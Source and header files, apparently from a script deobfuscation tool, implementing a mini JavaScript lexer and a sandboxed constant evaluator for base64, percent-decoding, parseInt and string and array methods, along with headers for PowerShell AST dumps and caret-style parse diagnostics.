  JsValue do_parse_int(const std::vector<JsValue>& args) {
    std::string s = to_string(arg_or_undefined(args, 0));
    int radix = 10;
    bool radix_given = false;
    if (args.size() > 1 && args[1].kind != JsValue::Kind::Undefined) {
      const double r = to_number(args[1]);
      const std::int32_t ri = to_int32(r);
      if (ri != 0) {
        if (ri < 2 || ri > 36) return JsValue::number_value(std::nan(""));
        radix = ri;
        radix_given = true;
      }
    }
    std::size_t i = 0;
    while (i < s.size() && std::isspace(static_cast<unsigned char>(s[i]))) ++i;
    bool negative = false;
    if (i < s.size() && (s[i] == '+' || s[i] == '-')) {
      negative = s[i] == '-';
      ++i;
    }
    if ((!radix_given || radix == 16) && i + 1 < s.size() && s[i] == '0' &&
        (s[i + 1] == 'x' || s[i + 1] == 'X')) {
      radix = 16;
      i += 2;
    }
    double value = 0;
    std::size_t digits = 0;
    for (; i < s.size(); ++i) {
      const char c = static_cast<char>(
          std::tolower(static_cast<unsigned char>(s[i])));
      int d = -1;
      if (c >= '0' && c <= '9') d = c - '0';
      else if (c >= 'a' && c <= 'z') d = c - 'a' + 10;
      if (d < 0 || d >= radix) break;
      value = value * radix + d;
      ++digits;
    }
    if (digits == 0) return JsValue::number_value(std::nan(""));
    return JsValue::number_value(negative ? -value : value);
  }

  JsValue do_atob(const std::string& input) {
    // Forgiving base64: ASCII whitespace stripped, then strict alphabet.
    std::string data;
    data.reserve(input.size());
    for (char c : input) {
      if (c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f') {
        continue;
      }
      data += c;
    }
    while (!data.empty() && data.back() == '=') data.pop_back();
    if (data.size() % 4 == 1) throw Bail{};
    std::string out;
    out.reserve(data.size() / 4 * 3 + 3);
    unsigned buffer = 0;
    int bits = 0;
    for (char c : data) {
      const int v = base64_value(c);
      if (v < 0) throw Bail{};
      buffer = (buffer << 6) | static_cast<unsigned>(v);
      bits += 6;
      if (bits >= 8) {
        bits -= 8;
        out += static_cast<char>((buffer >> bits) & 0xFF);
      }
    }
    return JsValue::string_value(charged(std::move(out)));
  }

  JsValue do_unescape(const std::string& input) {
    std::string out;
    out.reserve(input.size());
    for (std::size_t i = 0; i < input.size();) {
      if (input[i] == '%' && i + 5 < input.size() &&
          (input[i + 1] == 'u' || input[i + 1] == 'U')) {
        unsigned long cp = 0;
        bool ok = true;
        for (int d = 0; d < 4; ++d) {
          const int h = hex_digit(input[i + 2 + d]);
          if (h < 0) {
            ok = false;
            break;
          }
          cp = cp * 16 + static_cast<unsigned long>(h);
        }
        if (ok) {
          append_utf8(out, cp);
          i += 6;
          continue;
        }
      }
      if (input[i] == '%' && i + 2 < input.size()) {
        const int hi = hex_digit(input[i + 1]);
        const int lo = hex_digit(input[i + 2]);
        if (hi >= 0 && lo >= 0) {
          out += static_cast<char>(hi * 16 + lo);
          i += 3;
          continue;
        }
      }
      out += input[i];
      ++i;
    }
    return JsValue::string_value(charged(std::move(out)));
  }

  JsValue do_decode_uri(const std::string& input) {
    std::string out;
    out.reserve(input.size());
    for (std::size_t i = 0; i < input.size();) {
      if (input[i] == '%') {
        if (i + 2 >= input.size()) throw Bail{};  // URIError territory
        const int hi = hex_digit(input[i + 1]);
        const int lo = hex_digit(input[i + 2]);
        if (hi < 0 || lo < 0) throw Bail{};
        out += static_cast<char>(hi * 16 + lo);  // bytes are UTF-8 already
        i += 3;
        continue;
      }
      out += input[i];
      ++i;
    }
    return JsValue::string_value(charged(std::move(out)));
  }

  JsValue method_call(const JsValue& receiver, const std::string& method,
                      const std::vector<JsValue>& args) {
    if (receiver.kind == JsValue::Kind::String) {
      return string_method(receiver.string, method, args);
    }
    if (receiver.kind == JsValue::Kind::Array) {
      return array_method(receiver.array, method, args);
    }
    if (receiver.kind == JsValue::Kind::Number) {
      if (method == "toString") {
        if (args.empty() || args[0].kind == JsValue::Kind::Undefined) {
          return JsValue::string_value(number_to_string(receiver.number));
        }
        const std::int32_t radix = to_int32(to_number(args[0]));
        if (radix == 10) {
          return JsValue::string_value(number_to_string(receiver.number));
        }
        if (radix < 2 || radix > 36) throw Bail{};
        // Integer-only radix rendering (fractional radix output bails).
        double d = receiver.number;
        if (!std::isfinite(d) || d != std::trunc(d)) throw Bail{};
        const bool negative = d < 0;
        if (negative) d = -d;
        std::string digits;
        if (d == 0) digits = "0";
        while (d >= 1) {
          const auto rem = static_cast<int>(std::fmod(d, radix));
          digits += rem < 10 ? static_cast<char>('0' + rem)
                             : static_cast<char>('a' + rem - 10);
          d = std::floor(d / radix);
          step();
        }
        std::reverse(digits.begin(), digits.end());
        return JsValue::string_value((negative ? "-" : "") + digits);
      }
      if (method == "valueOf") return receiver;
      throw Bail{};
    }
    throw Bail{};
  }

  JsValue string_method(const std::string& s, const std::string& method,
                        const std::vector<JsValue>& args) {
    const auto int_arg = [&](std::size_t i, double fallback) {
      const JsValue& v = arg_or_undefined(args, i);
      if (v.kind == JsValue::Kind::Undefined) return fallback;
      const double d = to_number(v);
      if (std::isnan(d)) return 0.0;
      return std::trunc(d);
    };
    const auto clamp_index = [&](double d) {
      const auto size = static_cast<double>(s.size());
      if (d < 0) d += size;
      return static_cast<std::size_t>(std::clamp(d, 0.0, size));
    };

    if (method == "charAt") {
      if (!ascii_only(s)) throw Bail{};
      const double i = int_arg(0, 0);
      if (i < 0 || i >= static_cast<double>(s.size())) {
        return JsValue::string_value("");
      }
      return JsValue::string_value(
          std::string(1, s[static_cast<std::size_t>(i)]));
    }
    if (method == "charCodeAt" || method == "codePointAt") {
      if (!ascii_only(s)) throw Bail{};
      const double i = int_arg(0, 0);
      if (i < 0 || i >= static_cast<double>(s.size())) {
        return JsValue::number_value(std::nan(""));
      }
      return JsValue::number_value(static_cast<double>(
          static_cast<unsigned char>(s[static_cast<std::size_t>(i)])));
    }
    if (method == "indexOf" || method == "lastIndexOf") {
      if (!ascii_only(s)) throw Bail{};
      const std::string needle = to_string(arg_or_undefined(args, 0));
      const std::size_t found = method == "indexOf" ? s.find(needle)
                                                    : s.rfind(needle);
      return JsValue::number_value(
          found == std::string::npos ? -1 : static_cast<double>(found));
    }
    if (method == "slice" || method == "substring") {
      if (!ascii_only(s)) throw Bail{};
      double a = int_arg(0, 0);
      double b = int_arg(1, static_cast<double>(s.size()));
      if (method == "substring") {
        // substring clamps negatives to 0 and swaps out-of-order args.
        a = std::max(a, 0.0);
        b = std::max(b, 0.0);
        if (a > b) std::swap(a, b);
        a = std::min(a, static_cast<double>(s.size()));
        b = std::min(b, static_cast<double>(s.size()));
        return JsValue::string_value(charged(
            s.substr(static_cast<std::size_t>(a),
                     static_cast<std::size_t>(b - a))));
      }
      const std::size_t begin = clamp_index(a);
      const std::size_t end = clamp_index(b);
      if (begin >= end) return JsValue::string_value("");
      return JsValue::string_value(charged(s.substr(begin, end - begin)));
    }
    if (method == "substr") {
      if (!ascii_only(s)) throw Bail{};
      const std::size_t begin = clamp_index(int_arg(0, 0));
      const double len = int_arg(1, static_cast<double>(s.size()));
      if (len <= 0) return JsValue::string_value("");
      return JsValue::string_value(
          charged(s.substr(begin, static_cast<std::size_t>(len))));
    }
    if (method == "toLowerCase" || method == "toUpperCase") {
      std::string out = s;
      for (char& c : out) {
        c = method == "toLowerCase"
                ? static_cast<char>(std::tolower(static_cast<unsigned char>(c)))
                : static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
      }
      return JsValue::string_value(charged(std::move(out)));
    }
    if (method == "trim") {
      std::size_t b = 0;
      std::size_t e = s.size();
      while (b < e && std::isspace(static_cast<unsigned char>(s[b])) != 0) ++b;
      while (e > b && std::isspace(static_cast<unsigned char>(s[e - 1])) != 0) {
        --e;
      }
      return JsValue::string_value(charged(s.substr(b, e - b)));
    }
    if (method == "concat") {
      std::string out = s;
      for (const JsValue& arg : args) out += to_string(arg);
      return JsValue::string_value(charged(std::move(out)));
    }
    if (method == "repeat") {
      const double count = int_arg(0, 0);
      if (count < 0 || count > 1e6) throw Bail{};
      std::string out;
      const auto reps = static_cast<std::size_t>(count);
      if (reps != 0 && s.size() > limits_.max_value_bytes / reps) throw Bail{};
      out.reserve(s.size() * reps);
      for (std::size_t i = 0; i < reps; ++i) {
        step();
        out += s;
      }
      return JsValue::string_value(charged(std::move(out)));
    }
    if (method == "split") {
      if (args.empty() || args[0].kind != JsValue::Kind::String) throw Bail{};
      const std::string& sep = args[0].string;
      std::vector<JsValue> parts;
      if (sep.empty()) {
        if (!ascii_only(s)) throw Bail{};
        parts.reserve(s.size());
        for (char c : s) {
          step();
          parts.push_back(JsValue::string_value(std::string(1, c)));
        }
      } else {
        std::size_t begin = 0;
        while (true) {
          step();
          const std::size_t found = s.find(sep, begin);
          if (found == std::string::npos) {
            parts.push_back(JsValue::string_value(s.substr(begin)));
            break;
          }
          parts.push_back(JsValue::string_value(s.substr(begin, found - begin)));
          begin = found + sep.size();
        }
      }
      return JsValue::array_value(std::move(parts));
    }
    if (method == "replace" || method == "replaceAll") {
      // Plain-string patterns only; regex patterns bail (no regex engine).
      if (args.size() < 2 || args[0].kind != JsValue::Kind::String ||
          args[1].kind != JsValue::Kind::String) {
        throw Bail{};
      }
      const std::string& pattern = args[0].string;
      const std::string& replacement = args[1].string;
      if (pattern.empty() ||
          replacement.find('$') != std::string::npos) {
        throw Bail{};  // $-patterns have substitution semantics
      }
      std::string out;
      std::size_t begin = 0;
      while (true) {
        step();
        const std::size_t found = s.find(pattern, begin);
        if (found == std::string::npos) {
          out += s.substr(begin);
          break;
        }
        out += s.substr(begin, found - begin);
        out += replacement;
        begin = found + pattern.size();
        if (method == "replace") {
          out += s.substr(begin);
          break;
        }
      }
      return JsValue::string_value(charged(std::move(out)));
    }
    if (method == "toString" || method == "valueOf") {
      return JsValue::string_value(s);
    }
    throw Bail{};
  }

  JsValue array_method(const std::vector<JsValue>& items,
                       const std::string& method,
                       const std::vector<JsValue>& args) {
    if (method == "join") {
      std::string sep = ",";
      if (!args.empty() && args[0].kind != JsValue::Kind::Undefined) {
        sep = to_string(args[0]);
      }
      std::string out;
      for (std::size_t i = 0; i < items.size(); ++i) {
        step();
        if (i != 0) out += sep;
        if (items[i].kind == JsValue::Kind::Undefined ||
            items[i].kind == JsValue::Kind::Null) {
          continue;
        }
        out += to_string(items[i]);
      }
      return JsValue::string_value(charged(std::move(out)));
    }
    if (method == "reverse") {
      std::vector<JsValue> reversed(items.rbegin(), items.rend());
      return JsValue::array_value(std::move(reversed));
    }
    if (method == "slice") {
      const auto size = static_cast<double>(items.size());
      const auto idx = [&](std::size_t i, double fallback) {
        const JsValue& v = arg_or_undefined(args, i);
        double d = v.kind == JsValue::Kind::Undefined ? fallback
                                                      : std::trunc(to_number(v));
        if (std::isnan(d)) d = 0;
        if (d < 0) d += size;
        return static_cast<std::size_t>(std::clamp(d, 0.0, size));
      };
      const std::size_t begin = idx(0, 0);
      const std::size_t end = idx(1, size);
      std::vector<JsValue> out;
      for (std::size_t i = begin; i < end; ++i) {
        step();
        out.push_back(items[i]);
      }
      return JsValue::array_value(std::move(out));
    }
    if (method == "concat") {
      std::vector<JsValue> out = items;
      for (const JsValue& arg : args) {
        step();
        if (arg.kind == JsValue::Kind::Array) {
          out.insert(out.end(), arg.array.begin(), arg.array.end());
        } else {
          out.push_back(arg);
        }
      }
      return JsValue::array_value(std::move(out));
    }
    if (method == "toString") {
      JsValue v = JsValue::array_value(items);
      return JsValue::string_value(charged(to_string(v)));
    }
    throw Bail{};
  }

  const std::map<std::string, JsValue>& env_;
  const EvalLimits& limits_;
  std::size_t steps_ = 0;
};

}  // namespace

std::optional<JsValue> evaluate(const Node& node,
                                const std::map<std::string, JsValue>& env,
                                const EvalLimits& limits) {
  try {
    Evaluator evaluator(env, limits);
    return evaluator.eval(node);
  } catch (const Bail&) {
    return std::nullopt;
  }
  // ps::BudgetError propagates: a deadline/cancellation abort must reach
  // the governor, not read as "piece unrecoverable".
}

std::string to_js_literal(const JsValue& value) {
  switch (value.kind) {
    case JsValue::Kind::Null:
      return "null";
    case JsValue::Kind::Bool:
      return value.boolean ? "true" : "false";
    case JsValue::Kind::Number: {
      if (!std::isfinite(value.number)) return "";
      std::string text = number_to_string(value.number);
      // A leading '-' is an expression, not a literal, but it splices fine.
      return text;
    }
    case JsValue::Kind::String: {
      std::string out = "'";
      for (char raw : value.string) {
        const auto c = static_cast<unsigned char>(raw);
        switch (raw) {
          case '\'': out += "\\'"; break;
          case '\\': out += "\\\\"; break;
          case '\n': out += "\\n"; break;
          case '\r': out += "\\r"; break;
          case '\t': out += "\\t"; break;
          default:
            if (c < 0x20 || c == 0x7F) {
              constexpr char kHex[] = "0123456789abcdef";
              out += "\\x";
              out += kHex[c >> 4];
              out += kHex[c & 0xF];
            } else {
              out += raw;  // UTF-8 bytes pass through verbatim
            }
        }
      }
      out += '\'';
      return out;
    }
    case JsValue::Kind::Undefined:
    case JsValue::Kind::Array:
      return "";  // no faithful single-literal form
  }
  return "";
}

std::string js_to_string(const JsValue& value) {
  switch (value.kind) {
    case JsValue::Kind::Undefined:
      return "undefined";
    case JsValue::Kind::Null:
      return "null";
    case JsValue::Kind::Bool:
      return value.boolean ? "true" : "false";
    case JsValue::Kind::Number:
      return number_to_string(value.number);
    case JsValue::Kind::String:
      return value.string;
    case JsValue::Kind::Array: {
      std::string out;
      for (std::size_t i = 0; i < value.array.size(); ++i) {
        if (i != 0) out += ',';
        const JsValue& item = value.array[i];
        if (item.kind == JsValue::Kind::Undefined ||
            item.kind == JsValue::Kind::Null) {
          continue;
        }
        out += js_to_string(item);
      }
      return out;
    }
  }
  return "";
}

}  // namespace jslang
