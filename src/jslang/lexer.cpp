#include "jslang/lexer.h"

#include <array>
#include <cctype>
#include <cstdlib>
#include <utility>

namespace jslang {

namespace {

bool ident_start(unsigned char c) {
  return std::isalpha(c) != 0 || c == '_' || c == '$' || c >= 0x80;
}
bool ident_part(unsigned char c) { return ident_start(c) || std::isdigit(c) != 0; }

int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

/// Appends one code point as UTF-8 (how decoded \u escapes are stored).
void append_utf8(std::string& out, unsigned long cp) {
  if (cp < 0x80) {
    out += static_cast<char>(cp);
  } else if (cp < 0x800) {
    out += static_cast<char>(0xC0 | (cp >> 6));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else if (cp < 0x10000) {
    out += static_cast<char>(0xE0 | (cp >> 12));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  } else {
    out += static_cast<char>(0xF0 | (cp >> 18));
    out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
    out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    out += static_cast<char>(0x80 | (cp & 0x3F));
  }
}

/// Multi-char punctuators, longest first within each first-char group (the
/// scan tries them in order and takes the first prefix match).
constexpr std::string_view kPuncts[] = {
    ">>>=", "===", "!==", "**=", "<<=", ">>=", ">>>", "&&=", "||=", "??=",
    "...", "=>", "==", "!=", "<=", ">=", "&&", "||", "??", "++", "--", "+=",
    "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>", "**", "?.",
};

constexpr std::string_view kReserved[] = {
    "break",    "case",     "catch",  "class",      "const", "continue",
    "debugger", "default",  "delete", "do",         "else",  "enum",
    "export",   "extends",  "false",  "finally",    "for",   "function",
    "if",       "import",   "in",     "instanceof", "new",   "null",
    "return",   "super",    "switch", "this",       "throw", "true",
    "try",      "typeof",   "var",    "void",       "while", "with",
    "let",      "static",   "yield",
};

/// Whether the previous significant token allows a `/` to start a regex
/// (i.e. the previous token cannot end an expression).
bool regex_can_follow(const std::vector<Token>& tokens) {
  if (tokens.empty()) return true;
  const Token& prev = tokens.back();
  if (prev.kind == TokenKind::Number || prev.kind == TokenKind::String ||
      prev.kind == TokenKind::Regex) {
    return false;
  }
  if (prev.kind == TokenKind::Ident) {
    // After most keywords a regex may start (`return /x/`, `typeof /x/`);
    // after a plain identifier or expression-ending keyword it is division.
    return is_reserved_word(prev.text) && prev.text != "this" &&
           prev.text != "true" && prev.text != "false" && prev.text != "null";
  }
  return prev.text != ")" && prev.text != "]" && prev.text != "}" &&
         prev.text != "++" && prev.text != "--";
}

}  // namespace

bool is_reserved_word(std::string_view name) {
  for (std::string_view word : kReserved) {
    if (name == word) return true;
  }
  return false;
}

bool is_identifier(std::string_view text) {
  if (text.empty() || !ident_start(static_cast<unsigned char>(text[0]))) {
    return false;
  }
  for (char c : text) {
    if (!ident_part(static_cast<unsigned char>(c))) return false;
  }
  return true;
}

LexResult lex(std::string_view source) {
  LexResult result;
  // Defensive input bound: the front-end is fed attacker-controlled bytes;
  // a token stream is ~Theta(n), so cap n like the PS substrate does.
  constexpr std::size_t kMaxSource = 16u << 20;
  if (source.size() > kMaxSource) {
    result.error = "source too large";
    return result;
  }
  std::size_t i = 0;
  const std::size_t n = source.size();
  bool newline_pending = false;

  const auto fail = [&](std::string message) {
    result.ok = false;
    result.error = std::move(message);
    return result;
  };

  while (i < n) {
    const char c = source[i];
    // --- whitespace / comments -------------------------------------------
    if (c == '\n' || c == '\r') {
      newline_pending = true;
      ++i;
      continue;
    }
    if (c == ' ' || c == '\t' || c == '\v' || c == '\f') {
      ++i;
      continue;
    }
    if (c == '/' && i + 1 < n && source[i + 1] == '/') {
      while (i < n && source[i] != '\n') ++i;
      continue;
    }
    if (c == '/' && i + 1 < n && source[i + 1] == '*') {
      const std::size_t close = source.find("*/", i + 2);
      if (close == std::string_view::npos) return fail("unterminated comment");
      if (source.substr(i, close - i).find('\n') != std::string_view::npos) {
        newline_pending = true;  // a multi-line comment is a line break (ASI)
      }
      i = close + 2;
      continue;
    }

    Token token;
    token.begin = i;
    token.newline_before = newline_pending;
    newline_pending = false;

    // --- identifiers / keywords ------------------------------------------
    if (ident_start(static_cast<unsigned char>(c))) {
      std::size_t j = i + 1;
      while (j < n && ident_part(static_cast<unsigned char>(source[j]))) ++j;
      token.kind = TokenKind::Ident;
      token.end = j;
      token.text = std::string(source.substr(i, j - i));
      result.tokens.push_back(std::move(token));
      i = j;
      continue;
    }

    // --- numbers ----------------------------------------------------------
    if (std::isdigit(static_cast<unsigned char>(c)) != 0 ||
        (c == '.' && i + 1 < n &&
         std::isdigit(static_cast<unsigned char>(source[i + 1])) != 0)) {
      std::size_t j = i;
      if (c == '0' && i + 1 < n && (source[i + 1] == 'x' || source[i + 1] == 'X')) {
        j = i + 2;
        while (j < n && hex_digit(source[j]) >= 0) ++j;
        if (j == i + 2) return fail("malformed hex literal");
        token.num_value = static_cast<double>(
            std::strtoull(std::string(source.substr(i + 2, j - i - 2)).c_str(),
                          nullptr, 16));
      } else if (c == '0' && i + 1 < n &&
                 (source[i + 1] == 'b' || source[i + 1] == 'B' ||
                  source[i + 1] == 'o' || source[i + 1] == 'O')) {
        const int base = (source[i + 1] == 'b' || source[i + 1] == 'B') ? 2 : 8;
        j = i + 2;
        while (j < n && hex_digit(source[j]) >= 0 && hex_digit(source[j]) < base) {
          ++j;
        }
        if (j == i + 2) return fail("malformed radix literal");
        token.num_value = static_cast<double>(
            std::strtoull(std::string(source.substr(i + 2, j - i - 2)).c_str(),
                          nullptr, base));
      } else {
        while (j < n && std::isdigit(static_cast<unsigned char>(source[j])) != 0) {
          ++j;
        }
        if (j < n && source[j] == '.') {
          ++j;
          while (j < n &&
                 std::isdigit(static_cast<unsigned char>(source[j])) != 0) {
            ++j;
          }
        }
        if (j < n && (source[j] == 'e' || source[j] == 'E')) {
          std::size_t k = j + 1;
          if (k < n && (source[k] == '+' || source[k] == '-')) ++k;
          if (k < n && std::isdigit(static_cast<unsigned char>(source[k])) != 0) {
            j = k;
            while (j < n &&
                   std::isdigit(static_cast<unsigned char>(source[j])) != 0) {
              ++j;
            }
          }
        }
        token.num_value =
            std::strtod(std::string(source.substr(i, j - i)).c_str(), nullptr);
      }
      if (j < n && ident_start(static_cast<unsigned char>(source[j]))) {
        return fail("identifier immediately after number");
      }
      token.kind = TokenKind::Number;
      token.end = j;
      token.text = std::string(source.substr(i, j - i));
      result.tokens.push_back(std::move(token));
      i = j;
      continue;
    }

    // --- strings ----------------------------------------------------------
    if (c == '\'' || c == '"') {
      const char quote = c;
      std::size_t j = i + 1;
      std::string value;
      while (true) {
        if (j >= n) return fail("unterminated string literal");
        const char s = source[j];
        if (s == quote) {
          ++j;
          break;
        }
        if (s == '\n' || s == '\r') return fail("newline in string literal");
        if (s != '\\') {
          value += s;
          ++j;
          continue;
        }
        // escape sequence
        if (j + 1 >= n) return fail("unterminated escape");
        const char e = source[j + 1];
        j += 2;
        switch (e) {
          case 'n': value += '\n'; break;
          case 't': value += '\t'; break;
          case 'r': value += '\r'; break;
          case 'b': value += '\b'; break;
          case 'f': value += '\f'; break;
          case 'v': value += '\v'; break;
          case '0':
            // \0 (not followed by a digit) is NUL
            if (j < n && std::isdigit(static_cast<unsigned char>(source[j])) != 0) {
              return fail("legacy octal escape");
            }
            value += '\0';
            break;
          case 'x': {
            if (j + 1 >= n) return fail("truncated \\x escape");
            const int hi = hex_digit(source[j]);
            const int lo = hex_digit(source[j + 1]);
            if (hi < 0 || lo < 0) return fail("malformed \\x escape");
            value += static_cast<char>(hi * 16 + lo);
            j += 2;
            break;
          }
          case 'u': {
            unsigned long cp = 0;
            if (j < n && source[j] == '{') {
              std::size_t k = j + 1;
              while (k < n && source[k] != '}') {
                const int d = hex_digit(source[k]);
                if (d < 0) return fail("malformed \\u{} escape");
                cp = cp * 16 + static_cast<unsigned long>(d);
                if (cp > 0x10FFFF) return fail("\\u{} out of range");
                ++k;
              }
              if (k >= n || k == j + 1) return fail("malformed \\u{} escape");
              j = k + 1;
            } else {
              if (j + 3 >= n) return fail("truncated \\u escape");
              for (int d = 0; d < 4; ++d) {
                const int h = hex_digit(source[j + d]);
                if (h < 0) return fail("malformed \\u escape");
                cp = cp * 16 + static_cast<unsigned long>(h);
              }
              j += 4;
            }
            append_utf8(value, cp);
            break;
          }
          case '\n':  // line continuation
            break;
          case '\r':
            if (j < n && source[j] == '\n') ++j;
            break;
          default:
            value += e;  // identity escape (\', \", \\, \/ and everything else)
            break;
        }
      }
      token.kind = TokenKind::String;
      token.end = j;
      token.text = std::string(source.substr(i, j - i));
      token.str_value = std::move(value);
      result.tokens.push_back(std::move(token));
      i = j;
      continue;
    }

    if (c == '`') return fail("template literals are not supported");

    // --- regex literals ---------------------------------------------------
    if (c == '/' && regex_can_follow(result.tokens)) {
      std::size_t j = i + 1;
      bool in_class = false;
      while (true) {
        if (j >= n || source[j] == '\n') return fail("unterminated regex");
        const char s = source[j];
        if (s == '\\') {
          j += 2;
          continue;
        }
        if (s == '[') in_class = true;
        if (s == ']') in_class = false;
        if (s == '/' && !in_class) break;
        ++j;
      }
      ++j;  // closing slash
      while (j < n && ident_part(static_cast<unsigned char>(source[j]))) ++j;
      token.kind = TokenKind::Regex;
      token.end = j;
      token.text = std::string(source.substr(i, j - i));
      result.tokens.push_back(std::move(token));
      i = j;
      continue;
    }

    // --- punctuators ------------------------------------------------------
    std::string_view rest = source.substr(i);
    std::string_view matched;
    for (std::string_view punct : kPuncts) {
      if (rest.size() >= punct.size() && rest.substr(0, punct.size()) == punct) {
        matched = punct;
        break;
      }
    }
    if (matched.empty()) {
      constexpr std::string_view kSingles = "(){}[];,.<>+-*/%&|^!~?:=";
      if (kSingles.find(c) == std::string_view::npos) {
        return fail("unexpected character");
      }
      matched = rest.substr(0, 1);
    }
    token.kind = TokenKind::Punct;
    token.end = i + matched.size();
    token.text = std::string(matched);
    result.tokens.push_back(std::move(token));
    i += matched.size();
  }

  result.ok = true;
  return result;
}

}  // namespace jslang
