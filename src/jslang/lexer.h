#pragma once

/// \file jslang/lexer.h
/// Mini JavaScript lexer for the JS front-end (frontends/js_frontend.h).
/// Tokenizes the ES subset the front-end understands, with byte extents
/// (for in-place extent replacement), decoded string values (for constant
/// folding), and line-break flags (so the reformatter can normalize
/// horizontal whitespace without ever moving a token across a line break —
/// automatic semicolon insertion makes that a semantic change).
///
/// Deliberately not a full ES lexer: template literals and anything else
/// outside the subset fail the lex, which fails the parse, which makes the
/// whole front-end a no-op for that input (the totality contract).

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace jslang {

enum class TokenKind {
  Ident,    ///< identifier or keyword (keywords are classified by text)
  Number,   ///< numeric literal; value in `num_value`
  String,   ///< string literal; decoded value in `str_value`
  Regex,    ///< regex literal; opaque (never folded), kept for round-trip
  Punct,    ///< operator / punctuator, longest-match
};

struct Token {
  TokenKind kind = TokenKind::Punct;
  std::size_t begin = 0;  ///< byte offset of the first char
  std::size_t end = 0;    ///< one past the last char
  std::string text;       ///< raw source slice
  std::string str_value;  ///< decoded value (String only)
  double num_value = 0;   ///< numeric value (Number only)
  /// A line terminator (or a comment containing one) separates this token
  /// from the previous one. Load-bearing for reformatting: tokens must
  /// never be joined across it.
  bool newline_before = false;
};

struct LexResult {
  std::vector<Token> tokens;
  bool ok = false;
  std::string error;  ///< first lex error when !ok
};

/// Tokenizes `source`. Comments and whitespace are consumed; the `/` vs
/// regex ambiguity is resolved by the previous significant token.
[[nodiscard]] LexResult lex(std::string_view source);

/// Whether `name` is a reserved word (cannot be a dot-member property in
/// pre-ES5 engines, so the token pass keeps `obj["if"]` bracketed).
[[nodiscard]] bool is_reserved_word(std::string_view name);

/// Whether `text` is a valid identifier (so `obj["key"]` may become
/// `obj.key`).
[[nodiscard]] bool is_identifier(std::string_view text);

}  // namespace jslang
