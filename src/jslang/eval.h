#pragma once

/// \file jslang/eval.h
/// Constant evaluator for the JS front-end's recovery phase: evaluates the
/// deobfuscation-relevant constant subset of JavaScript — string assembly
/// (`+`, `String.fromCharCode`, `atob`, `unescape`, `decodeURIComponent`,
/// `parseInt`, `split`/`reverse`/`join`, slicing/casing methods), numeric
/// arithmetic, and traced single-assignment variables. Anything outside
/// the subset evaluates to "unknown" (nullopt) and the piece is left
/// untouched; there is no object model, no user function calls, and no I/O
/// — the evaluator cannot observe or affect anything, which is what makes
/// running it on attacker-controlled text safe by construction.

#include <cstddef>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "jslang/ast.h"

namespace ps {
class Budget;
}  // namespace ps

namespace jslang {

/// A constant value: the scalar JS types the folder understands, plus
/// string arrays (for split/reverse/join chains).
struct JsValue {
  enum class Kind { Undefined, Null, Bool, Number, String, Array };
  Kind kind = Kind::Undefined;
  bool boolean = false;
  double number = 0;
  std::string string;
  std::vector<JsValue> array;

  static JsValue undefined() { return JsValue{}; }
  static JsValue null() { return JsValue{Kind::Null, false, 0, {}, {}}; }
  static JsValue boolean_value(bool b) {
    return JsValue{Kind::Bool, b, 0, {}, {}};
  }
  static JsValue number_value(double d) {
    return JsValue{Kind::Number, false, d, {}, {}};
  }
  static JsValue string_value(std::string s) {
    return JsValue{Kind::String, false, 0, std::move(s), {}};
  }
  static JsValue array_value(std::vector<JsValue> items) {
    return JsValue{Kind::Array, false, 0, {}, std::move(items)};
  }
};

struct EvalLimits {
  /// Evaluation steps (one per visited node / builtin call / produced array
  /// element) before the piece is declared unrecoverable.
  std::size_t max_steps = 200000;
  /// Largest string/array the evaluator will materialize.
  std::size_t max_value_bytes = 4u << 20;
  /// Optional run budget: charged for materialized bytes and checkpointed
  /// per step, so deadline/cancellation aborts propagate (as BudgetError,
  /// which the caller must NOT swallow). May be null.
  ps::Budget* budget = nullptr;
};

/// Evaluates `node` under `env` (traced constant variables by name).
/// Returns nullopt when the expression is outside the constant subset or
/// exceeds the limits. Throws only ps::BudgetError (via limits.budget).
[[nodiscard]] std::optional<JsValue> evaluate(
    const Node& node, const std::map<std::string, JsValue>& env,
    const EvalLimits& limits);

/// Renders a value as JavaScript literal source ('...' strings with
/// escapes, shortest-round-trip numbers, true/false/null), or "" when the
/// value has no faithful literal form (arrays, undefined, non-finite
/// numbers) — the String/Number rule of the paper's section III-B2 carried
/// over to JS.
[[nodiscard]] std::string to_js_literal(const JsValue& value);

/// JS ToString of a value (array elements comma-joined, numbers shortest
/// round-trip); empty optional when the value has no pure ToString
/// (undefined stays "undefined", so only unsupported kinds fail).
[[nodiscard]] std::string js_to_string(const JsValue& value);

}  // namespace jslang
