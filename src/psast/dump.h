#pragma once

/// \file dump.h
/// Human-readable AST dumps, the debugging aid for everything the recovery
/// phase does: each line shows a node's kind, extent and salient payload,
/// with markers on the paper's *recoverable* and scope-changing kinds.

#include <string>
#include <string_view>

#include "psast/ast.h"

namespace ps {

struct DumpOptions {
  bool show_extents = true;    ///< print [start,end) offsets
  bool mark_recoverable = true;  ///< suffix recoverable kinds with `*`
  std::size_t max_payload = 40;  ///< truncate literal payloads to this length
};

/// Renders the subtree rooted at `node` as an indented tree.
std::string dump_ast(const Ast& node, std::string_view source,
                     DumpOptions options = {});

/// Parses and dumps a whole script; parse failures yield an error line.
std::string dump_script(std::string_view source, DumpOptions options = {});

}  // namespace ps
