#pragma once

/// \file diagnostics.h
/// Caret-style diagnostics for lexer/parser errors: renders the offending
/// line with a `^` marker, for CLI output and error reporting.

#include <cstddef>
#include <string>
#include <string_view>

namespace ps {

/// Renders `message` with the source line containing `offset` and a caret:
///
///   parse error at line 3, column 7: expected ')'
///       iex ('a'+'b'
///             ^
std::string format_diagnostic(std::string_view source, std::size_t offset,
                              std::string_view message);

/// Line/column (1-based) of a byte offset.
struct SourcePosition {
  int line = 1;
  int column = 1;
};
SourcePosition position_of(std::string_view source, std::size_t offset);

}  // namespace ps
