#include "psast/dump.h"

#include <sstream>

#include "psast/parser.h"

namespace ps {

namespace {

